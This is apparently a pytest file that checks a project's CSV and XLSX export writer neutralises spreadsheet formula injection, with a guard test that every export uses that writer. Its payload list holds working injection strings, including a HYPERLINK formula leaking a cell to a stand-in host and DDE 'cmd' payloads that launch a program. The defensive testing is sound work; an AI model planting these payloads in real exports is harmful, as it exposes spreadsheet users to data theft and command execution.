"""Formula injection (OWASP CSV injection): every exported cell comes out inert, by attack.

The payloads are the ones a spreadsheet would run or follow; they go through the one writer in
``core.exports`` that every export view uses (the guard at the bottom keeps it that way)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from wijkkompas.core import exports
from wijkkompas.core.tests.test_floors import application_modules

PAYLOADS = [
    '=HYPERLINK("http://voorbeeld.invalid/?d="&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Buurt Noord", "2026-03-01", "e-mail: wijk@voorbeeld.invalid", "", "a=b"]


def _csv_cells(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_inert_in_csv(payload):
    response = exports.csv_response("x.csv", ["Kop", payload], [[payload, 7, -3]])
    header, row = _csv_cells(response)
    assert header[1] == "'" + payload
    assert row == ["'" + payload, "7", "-3"]  # numbers stay numbers, also negative ones


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_a_plain_string_in_xlsx(payload):
    data = exports.xlsx_bytes("Blad", ["Kop", payload], [[payload, 7, -3.5]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element at all
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    for cell in (ws["B1"], ws["A2"]):
        assert cell.data_type == "s"
        # openpyxl's own XML reader turns a CR into LF; with lxml installed it stays a CR
        assert cell.value in (payload, payload.replace("\r", "\n"))
    assert ws["B2"].value == 7 and ws["C2"].value == -3.5
    assert ws["A1"].font.bold


def test_ordinary_text_is_left_as_typed():
    _, row = _csv_cells(exports.csv_response("x.csv", ["Kop"] * 5, [HARMLESS]))
    assert row == HARMLESS
    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes("B", ["K"] * 5, [HARMLESS]))).active
    assert [c.value for c in ws[2]] == [v or None for v in HARMLESS]


def test_control_characters_do_not_break_a_spreadsheet():
    data = exports.xlsx_bytes("Blad", ["Kop"], [["tekst\x0bmet\x00tekens"]])
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A2"].value == "tekstmettekens"


WRITER = re.compile(r"csv\.writer\(|DictWriter\(|Workbook\(|xlsxwriter")


def test_every_export_goes_through_core_exports():
    """No other module writes CSV or XLSX itself, so the neutralising above covers every export."""
    writers = [
        str(path)
        for path in application_modules()
        if WRITER.search(path.read_text(encoding="utf-8")) and path != Path(exports.__file__)
    ]
    assert writers == []
